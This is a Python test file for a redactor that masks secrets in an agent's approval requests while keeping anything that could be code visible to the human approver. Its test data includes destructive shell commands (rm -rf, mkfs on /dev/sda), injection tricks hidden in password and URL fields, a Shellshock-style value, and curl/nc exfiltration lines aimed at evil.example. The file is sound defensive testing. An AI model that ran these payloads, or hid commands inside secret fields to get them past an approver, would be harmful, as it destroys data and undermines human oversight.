"""What a question hides: only what can be nothing but a secret. Whatever could be code or prose is shown to whoever approves."""

import json
import re

import pytest
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.serialization import BestAvailableEncryption, Encoding, NoEncryption, PrivateFormat
from hypothesis import given
from hypothesis import strategies as st

from interlock.detect import QuestionRedactor, Redactor

record = Redactor(b"0123456789abcdef0123456789abcdef")
questions = QuestionRedactor(record)

TOKEN = "gh" + "p_" + "aB3dE6gH9jK2mN5pQ8sT1vW4xY7zA0cF3hJ6"
STRONG = "wJalrXUtnFEMI7K7MDENG3bPxRfiCY9EXAMPLE2KEY"
FINGERPRINT = re.compile(r"\[redacted:[a-z0-9-]+:[0-9a-f]{8}\]")
OPAQUE = re.compile(r"[A-Za-z0-9_.~+/=%@:-]+")
FRAME = "-----BEGIN {0}PRIVATE KEY-----\n{1}\n-----END {0}PRIVATE KEY-----"


def pem(key, form, password=None):
    encryption = NoEncryption() if password is None else BestAvailableEncryption(password)
    return key.private_bytes(Encoding.PEM, form, encryption).decode().rstrip("\n")


KEYS = [
    pem(ec.generate_private_key(ec.SECP256R1()), PrivateFormat.PKCS8),
    pem(ec.generate_private_key(ec.SECP256R1()), PrivateFormat.TraditionalOpenSSL),
    pem(ec.generate_private_key(ec.SECP256R1()), PrivateFormat.TraditionalOpenSSL, b"pass phrase"),
    pem(rsa.generate_private_key(65537, 2048), PrivateFormat.TraditionalOpenSSL),
    pem(ed25519.Ed25519PrivateKey.generate(), PrivateFormat.PKCS8),
    pem(ed25519.Ed25519PrivateKey.generate(), PrivateFormat.PKCS8, b"pass phrase"),
    pem(ed25519.Ed25519PrivateKey.generate(), PrivateFormat.OpenSSH),
]


@pytest.mark.parametrize(
    "parameters",
    [
        {"command": "echo https://ci:x;touch${IFS}pwned;:@artifacts.example/build.tgz"},
        {"command": "echo https://ci:$(touch$IFS'pwned')@artifacts.example"},
        {"command": FRAME.format("", "touch pwned")},
        {"command": FRAME.format("RSA ", "MIIEpAIBAAKCAQEA\ntouch pwned\nMIIEpAIBAAKCAQEA")},
        {"content": FRAME.format("TOUCH PWNED ", "AAAA")},
        {"command": "x='-----BEGIN PRIVATE KEY-----'; touch pwned"},
        {"argv": ["sh", "-c", "$PASSWORD"], "env": {"PASSWORD": "rm -rf important"}},
        {"argv": ["sh", "-c", "$PASSWORD /dev/sda"], "env": {"PASSWORD": "mkfs.ext4"}},
        {"argv": ["sh", "-c", "$PASSWORD"], "env": {"PASSWORD": "reboot2"}},
        {"argv": ["./deploy"], "env": {"PASSWORD": "./pwned"}},
        {"argv": ["./deploy"], "env": {"PASSWORD": "reboot"}},
        {"argv": ["sh", "-c", "$1", "--password", "reboot2"]},
        {"argv": ["python3", "-c", "os.system(sys.argv[2])", "--token", "reboot2"]},
        {"command": "PASSWORD=reboot2; $PASSWORD"},
        {"command": "alias token=reboot2"},
        {"command": "echo password=reboot2 | cut -d= -f2 | sh"},
        {"credentials": ["rm", "-rf", "important"]},
        {"password": {"run": "rm -rf important"}},
        {"password": "p\u0430yload"},  # a letter that only looks like one of ASCII
        {"command": "tool sk-ant-delete-everything-in-the-home-directory-now"},
        {"env": {"API_TOKEN": "() { :; }; touch pwned"}, "argv": ["bash"]},
        {"command": "curl -u me:x`touch${IFS}pwned` example.org"},
        {"content": 'password = "rm -rf important; now"'},
        {"command": "echo password:\nmke2fs /dev/sda"},
        {"command": "echo authorization:\n  mke2fs /dev/sda"},
        {"command": 'echo \'password:\n"mke2fs" /dev/sda'},
        {"command": "PASSWORD= mke2fs /dev/sda"},
        {"command": "token=\tx1y2z3x4y5z6 --all"},
        {"command": "printf 'password:\\nmke2fs /dev/sda' > job"},
        {"command": "{rm,-rf,x://a:1,important,b@h}"},
        {"command": "u=https://ci:mke2fs:-F@h; IFS=:@; set -- $u; $3 $4"},
        {"command": "env -u --password mke2fs /dev/sda"},
        {"argv": ["env", "-u", "--password", "mke2fs", "/dev/sda"]},
        {"argv": ["sudo", "-u", "--token", "mke2fs", "/dev/sda"]},
        {"url": "https://evil.example:443#@good.example/x"},
        {"command": "curl -d @data http://ghs_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9.evil.example/"},
        {"command": "ssh me@ghs_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9"},
        {"command": "nc ghs_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9.evil.example 80"},
    ],
    ids=repr,
)
def test_what_could_be_code_or_prose_is_shown(parameters):
    assert questions.redact(parameters) is parameters


@pytest.mark.parametrize(
    ("parameters", "secret"),
    [
        ({"command": f"GITHUB_TOKEN={TOKEN} gh release list"}, TOKEN),
        ({"command": "curl https://ci:hunter2@artifacts.example/build.tgz"}, "hunter2"),
        ({"command": "mysql -phunter2 -e 'select 1'"}, "hunter2"),
        ({"command": f"PASSWORD={STRONG} sh -c '$PASSWORD'"}, STRONG),
        ({"argv": ["psql"], "env": {"PGPASSWORD": "hunter2"}}, "hunter2"),
        ({"argv": ["mysql", "--password", "hunter2"]}, "hunter2"),
        ({"headers": {"Authorization": "Basic dXNlcjpwYXNz"}}, "dXNlcjpwYXNz"),
        ({"headers": {"Authorization": f"Bearer {STRONG}"}}, STRONG),
        ({"headers": {"Cookie": "theme=dark; session=f3a9b2c4d5e6f7a8"}}, "f3a9b2c4d5e6f7a8"),
        ({"password": "correcthorsebattery"}, "correcthorsebattery"),
        ({"login": {"pin": 493817}}, "493817"),
        ({TOKEN: 1}, TOKEN),
    ],
)
def test_what_can_only_be_a_secret_is_hidden(parameters, secret):
    shown = json.dumps(questions.redact(parameters))
    assert secret not in shown
    assert FINGERPRINT.search(shown)


@pytest.mark.parametrize("redactor", [questions, record], ids=["question", "journal"])
@pytest.mark.parametrize(
    "text",
    [
        "password: hunter2x99",
        "https://ci:hunter2@host",
        f"PASSWORD={STRONG} ls",
        f"--token {STRONG}",
        "mysql -phunter2",
        TOKEN,
    ],
)
def test_what_was_redacted_keeps_its_fingerprint(redactor, text):
    once = redactor.redact_text(text)
    assert FINGERPRINT.search(once)
    assert redactor.redact_text(once) == once
    assert redactor.redact({"argv": ["x", once]}) == {"argv": ["x", once]}


def test_what_a_schema_marks_is_hidden_whatever_it_is():
    shown = questions.redact({"note": "rm -rf important", "other": "ls"}, ("/note",))
    assert FINGERPRINT.fullmatch(shown["note"])
    assert shown["other"] == "ls"


def test_two_secret_names_with_one_fingerprint_are_two_members(monkeypatch):
    monkeypatch.setattr(record, "fingerprint", lambda kind, secret: "[redacted:x:00000000]")
    shown = questions.redact({TOKEN: "ls", TOKEN[::-1][:-4] + "x": 1, "gh" + "p_" + TOKEN[:3:-1]: "rm"})
    assert set(shown.values()) == {"ls", 1, "rm"}


@pytest.mark.parametrize("key", KEYS, ids=range(len(KEYS)))
def test_a_private_key_is_hidden_whole(key):
    for text in (key, key.replace("\n", "\\n"), key.replace("\n", "\r\n"), key.replace("\n", "\n    ")):
        assert FINGERPRINT.fullmatch(questions.redact(text))


@pytest.mark.parametrize("key", [KEYS[0], KEYS[3], KEYS[6]], ids=range(3))
def test_a_frame_with_a_key_and_more_shows_what_is_more(key):
    first, *rest = key.split("\n")
    shown = questions.redact("\n".join([first, "touch pwned", *rest]))
    assert "touch pwned" in shown
    assert not any(line in shown for line in rest if len(line) == 64)


def test_the_journal_hides_what_a_question_shows():
    for value in ({"password": "correct horse battery"}, {"u": "https://ci:p;w@example.org"}, FRAME.format("", "MII")):
        assert questions.redact(value) is value
        assert "redacted" in json.dumps(record.redact(value))


# What an agent may put where a secret stands, and where secrets stand.
payloads = st.lists(
    st.sampled_from(
        ["rm", "-rf", "touch", "pwned", "${IFS}", "$IFS", ";", "&&", "|", "`id`", "$(id)", "\n", " ", "{a,b}", "'", '"', "<x",
         "\\", "*", "\u200b", "\u202e", "\x1b[8m", "important", "/bin/sh", "2>&1", "x1", "é"]
    ),
    min_size=1,
    max_size=6,
).map("".join)  # fmt: skip
frames = st.sampled_from(
    ["https://ci:%s@host.example/x", "PASSWORD=%s", "--password %s", "--token=%s", "API_KEY='%s'", "mysql -p%s", "curl -u me:%s",
     "Authorization: Bearer %s", FRAME.format("", "%s"), FRAME.format("RSA ", "MIIEpAIBAAKCAQEA\n%s"), '{"password": "%s"}',
     TOKEN + "%s", "%s" + TOKEN, "password: %s", "sshpass -p %s ssh"]
)  # fmt: skip
secrets = st.sampled_from([TOKEN, STRONG, *KEYS])
words = st.sampled_from(
    ["ls", "-la", "|", "&&", ";", "$HOME", "cat", "'a b'", ">", "out.txt", "$(date)", "sh", "-c", "# x"]
)
commands = st.lists(
    words | st.builds(lambda frame, inner: frame.replace("%s", inner), frames, payloads | secrets) | secrets | payloads,
    max_size=8,
).map(" ".join)


@given(commands)
def test_the_words_of_a_command_that_are_not_secret_are_shown(command):
    # What is shown is the command itself, in order; each gap is one word without syntax, or a whole private key.
    gap = "|".join([*map(re.escape, KEYS), OPAQUE.pattern])
    pieces = map(re.escape, FINGERPRINT.split(questions.redact(command)))
    assert re.fullmatch(f"(?:{gap})".join(pieces), command)


@given(frames, payloads.filter(lambda text: re.search(r"[^A-Za-z0-9_.~+/=%@:-]", text) is not None))
def test_no_frame_of_a_secret_hides_shell_syntax(frame, payload):
    for value in (
        {"command": frame.replace("%s", payload)},
        {"content": frame.replace("%s", payload)},
        {"env": {"PASSWORD": payload}, "argv": ["sh", "-c", "$PASSWORD"]},
        {"argv": ["tool", "--password", payload]},
        {"diff": "+" + frame.replace("%s", payload)},
    ):
        shown = json.dumps(questions.redact(value))
        # Right beside a token, letters are a part of the token's word; and the first word may be the secret itself.
        words = set() if TOKEN in frame else {"rm", "touch", "pwned", "important"}
        first, *rest = re.findall(r"[^A-Za-z0-9_.~+/=%@:-]+|[A-Za-z0-9_.~+/=%@:-]+", payload)
        syntax = [part for part in (first, *rest) if not re.match(r"[A-Za-z0-9_.~+/=%@:-]", part)]
        for part in (*syntax, *(part for part in rest if part in words)):
            assert json.dumps(part)[1:-1] in shown
